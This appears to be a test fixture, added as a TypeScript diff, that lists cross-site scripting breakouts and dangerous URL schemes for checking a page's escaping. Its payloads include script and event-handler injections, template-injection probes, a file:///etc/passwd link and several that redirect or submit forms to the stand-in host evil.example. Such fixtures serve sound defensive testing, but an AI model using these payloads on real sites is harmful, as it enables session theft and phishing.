@@ -1,0 +1,47 @@
+/** Texts that break out of where a careless page puts them, and addresses that run when somebody follows them. */
+
+/** Short enough for every field; each ends in something that would be another element or attribute. */
+export const BREAKOUTS: readonly string[] = [
+  "<script>alert(1)</script>",
+  `"><img src=x onerror=alert(1)>`,
+  `'><svg onload=alert(1)>`,
+  `" autofocus onfocus=alert(1) x="`,
+  "' onmouseover='alert(1)",
+  "--><b>out of a comment</b><!--",
+  "</title><script>alert(1)</script>",
+  "</textarea></style></script><iframe src=//evil.example>",
+  `<a href="javascript:alert(1)">go on</a>`,
+  "<base href=//evil.example/>",
+  `<meta http-equiv=refresh content="0;url=//evil.example">`,
+  "<form action=//evil.example><button>Allow",
+  "&lt;script&gt;alert(1)&lt;/script&gt;",
+  "&#60;img src=x onerror=alert(1)&#62;",
+  "{{constructor.constructor('alert(1)')()}}",
+  `\${alert(1)}<%= 7*7 %>#{7*7}`,
+  "\u003cscript\u003e\\u003cscript\\u003e",
+  "＜script＞alert(1)＜/script＞",
+  "]]><script>alert(1)</script><![CDATA[",
+  "a\r\n\r\n<script>alert(1)</script>",
+  "javascript:alert(1)//",
+  `\u202e<b>gnp.live</b>`,
+  "__proto__[innerHTML]=<img/src/onerror=alert(1)>",
+];
+
+export const RUNNING_ADDRESSES: readonly string[] = [
+  "javascript:alert(1)",
+  "JaVaScRiPt:alert(1)",
+  " javascript:alert(1)",
+  "java\tscript:alert(1)",
+  "java\nscript:alert(1)",
+  "\u0001javascript:alert(1)",
+  "javascript&colon;alert(1)",
+  "data:text/html,<script>alert(1)</script>",
+  "vbscript:msgbox(1)",
+  "file:///etc/passwd",
+  "blob:https://client.example/x",
+  "view-source:javascript:alert(1)",
+  "//evil.example/",
+  "https://client.example@evil.example/",
+  `https://client.example/"onmouseover="alert(1)`,
+  "https://client.example/'><script>alert(1)</script>",
+];
